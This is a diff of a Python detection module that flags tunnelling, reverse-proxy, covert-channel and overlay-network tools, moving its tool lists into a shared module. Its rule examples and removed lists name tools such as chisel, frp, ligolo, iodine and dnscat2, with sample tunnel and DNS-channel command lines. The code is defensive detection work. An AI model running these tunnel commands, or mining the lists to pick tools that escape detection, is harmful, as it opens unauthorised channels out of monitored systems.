@@ -1,4 +1,4 @@
-"""Programs made for tunnels: recognised by name and subcommand, and by the shape of their arguments if renamed."""
+"""Programs made for tunnels: known by name and subcommand, and by the shape of their arguments if renamed."""
 
 import re
 
@@ -7,63 +7,9 @@ from apps.detection.argv.invocation import Invocation
 from apps.detection.argv.names import names
 from apps.detection.rules.base import Detail, Rule
 from apps.detection.rules.common import MENTIONS, asks_for_help, first_with
+from apps.detection.rules.tunnels.knowledge import COVERT as COVERT_TOOLS
+from apps.detection.rules.tunnels.knowledge import OVERLAYS, PROXIES, TUNNEL_VERBS, TUNNELS
 
-# program -> subcommands that tunnel (empty: any use does), for tools that bring the outside in
-_REVERSE: dict[str, frozenset[str]] = {
-    name: frozenset(verbs.split())
-    for name, verbs in {
-        "chisel": "client server", "frpc": "", "frps": "", "frp": "", "bore": "local server", "bore-cli": "local server",
-        "rathole": "", "ngrok": "http https tcp tls start service tunnel", "lt": "", "localtunnel": "", "localtonet": "",
-        "pagekite": "", "pagekite.py": "", "zrok": "share access reserve enable", "inlets": "client server http tcp",
-        "inlets-pro": "client server http tcp", "devtunnel": "host create connect port", "loophole": "http path webdav",
-        "expose": "share", "boringproxy": "client server tuntap", "jprq": "http tcp serve", "telebit": "http tcp ssh",
-        "playit": "", "npc": "", "nps": "", "revsocks": "", "rsocks": "", "ligolo": "", "ligolo-ng": "", "ligolo-agent": "",
-        "wstunnel": "client server", "websocat": "", "gsocket": "", "gs-netcat": "", "gs-sftp": "", "gs-mount": "",
-        "earthworm": "", "ew_for_linux64": "", "ew_for_linux": "", "stowaway": "", "linux_x64_agent": "", "iox": "fwd proxy",
-        "venom": "", "natpass": "", "nsocks": "", "holesail": "", "tunnelto": "", "sish": "", "beame": "", "cpolar": "",
-        "natapp": "", "sunny": "", "tunnelmole": "", "tmole": "", "pinggy": "", "outray": "", "srv.us": "", "localxpose": "", "loclx": "",
-        "tailscaled": "", "reverse_ssh": "", "rssh": "", "sshuttle": "", "sshtunnel": "", "tinyproxy-tunnel": "",
-        "hypertunnel": "", "packetriot": "http tcp start tunnel", "pktriot": "http tcp start tunnel", "remotemoe": "",
-        "gotty": "", "ttyd": "", "tmate": "", "sshx": "", "upterm": "host", "wetty": "", "shellinaboxd": "",
-        "code-server-tunnel": "", "rustdesk": "", "anydesk": "", "meshagent": "", "teleport-agent": "",
-    }.items()
-}  # fmt: skip
-_PROXIES = names(
-    """
-    gost 3proxy microsocks danted sockd glider v2ray xray sing-box clash mihomo ss-local sslocal ss-server
-    ssserver ss-redir sslocal-rust trojan trojan-go hysteria hysteria2 naive brook tuic-client
-    juicity-client redsocks redsocks2 tun2socks torify torsocks tor privoxy polipo proxychains proxychains4
-    graftcp rinetd redir simpleproxy proxytunnel corkscrew httptunnel htc hts cntlm i2pd lantern
-    snowflake-client obfs4proxy pproxy ssf socksd srelay dnsproxy-socks mitmdump-socks goproxy
-    """
-)
-_COVERT = names(
-    """
-    iodine iodined dnscat dnscat2 dns2tcpc dns2tcpd ptunnel ptunnel-ng hans icmptunnel icmpsh icmptx udp2raw
-    kcptun client_linux_amd64 server_linux_amd64 pwnat dnstt-client dnstt-server slipstream udptunnel
-    wireproxy sliver-dns heyoka ozymandns tcp-over-dns chashell
-    """
-)
-_OVERLAYS: dict[str, frozenset[str]] = {
-    "tailscale": frozenset({"up", "login", "serve", "funnel", "ssh", "nc", "set"}),
-    "zerotier-cli": frozenset({"join"}),
-    "zerotier-one": frozenset(),
-    "openvpn": frozenset(),
-    "wg-quick": frozenset({"up"}),
-    "wireguard-go": frozenset(),
-    "nebula": frozenset(),
-    "netbird": frozenset({"up", "login", "ssh"}),
-    "headscale": frozenset({"serve"}),
-    "easytier-core": frozenset(),
-    "n2n": frozenset(),
-    "edge": frozenset(),
-    "tincd": frozenset(),
-    "cloudflare-warp": frozenset(),
-    "warp-cli": frozenset({"connect"}),
-    "openconnect": frozenset(),
-    "vpnc": frozenset(),
-    "pptp": frozenset(),
-}
 _PASSIVE = names(
     """
     verify config authtoken add-authtoken update upgrade status list diagnose
@@ -76,7 +22,7 @@ def _reverse_tool(invocation: Invocation) -> Detail | None:
     args = invocation.args
     if asks_for_help(args) and (args or invocation.program not in ("frpc", "frps", "tmate", "sshx", "ttyd")):
         return None
-    verbs = _REVERSE.get(invocation.program, frozenset())
+    verbs = TUNNEL_VERBS.get(invocation.program, frozenset())
     words = [word for word in args if word[:1] != "-"]
     if verbs and not verbs.intersection(words):
         return None
@@ -120,7 +66,7 @@ def _forwarded_session(invocation: Invocation) -> Detail | None:
 def _renamed(invocation: Invocation) -> Detail | None:
     """chisel's and frp's argument shapes under any program name."""
     args = invocation.args
-    if invocation.program in MENTIONS or invocation.program in _REVERSE:
+    if invocation.program in MENTIONS or invocation.program in TUNNELS:
         return None
     if args[:1] == ("client",) and (spec := next((a for a in args if _REMOTE_SPEC.match(a)), "")):
         server = next((a for a in args[1:] if a[:1] != "-" and a != spec), "")
@@ -164,7 +110,7 @@ def _covert_tool(invocation: Invocation) -> Detail | None:
 
 
 def _overlay(invocation: Invocation) -> Detail | None:
-    verbs = _OVERLAYS[invocation.program] if invocation.program in _OVERLAYS else frozenset()
+    verbs = OVERLAYS.get(invocation.program, frozenset())
     words = [word for word in invocation.args if word[:1] != "-"]
     if asks_for_help(invocation.args) or (verbs and not verbs.intersection(words[:1])):
         return None
@@ -195,7 +141,7 @@ TUNNEL_TOOL = Rule(
         "sshuttle -r user@198.51.100.7 10.0.0.0/8",
     ),
     match=_reverse_tool,
-    programs=frozenset(_REVERSE),
+    programs=TUNNELS | TUNNEL_VERBS.keys(),
 )  # fmt: skip
 CLOUDFLARED = Rule(
     slug="cloudflared-tunnel",
@@ -257,7 +203,8 @@ RENAMED = Rule(
     ),
     false_positives="None known.",
     examples=(
-        "./python3 client https://203.0.113.9 R:2222:localhost:22", "/tmp/.x/worker -c /tmp/.x/frpc.ini",
+        "./python3 client https://203.0.113.9 R:2222:localhost:22",
+        "/home/u/.x/worker -c /home/u/.x/frpc.ini",
     ),
     match=_renamed,
     hints=(" r:", "frpc", "frps", "tunnel"),
@@ -292,7 +239,7 @@ PROXY_TOOL = Rule(
         "microsocks -p 1080",
     ),
     match=_proxy_tool,
-    programs=_PROXIES,
+    programs=PROXIES,
 )  # fmt: skip
 COVERT = Rule(
     slug="covert-channel-tool",
@@ -306,7 +253,7 @@ COVERT = Rule(
     false_positives="None known in training fleets.",
     examples=("iodine -f -P pw t1.example.com", "./dnscat2 --dns server=198.51.100.7,port=53"),
     match=_covert_tool,
-    programs=_COVERT,
+    programs=COVERT_TOOLS,
 )
 OVERLAY = Rule(
     slug="overlay-network",
@@ -325,6 +272,6 @@ OVERLAY = Rule(
         "zerotier-cli join 8056c2e21c000001",
     ),
     match=_overlay,
-    programs=frozenset(_OVERLAYS),
+    programs=frozenset(OVERLAYS),
 )  # fmt: skip
 RULES = (TUNNEL_TOOL, CLOUDFLARED, EDITOR, SESSION, RENAMED, LIGOLO, PROXY_TOOL, COVERT, OVERLAY)
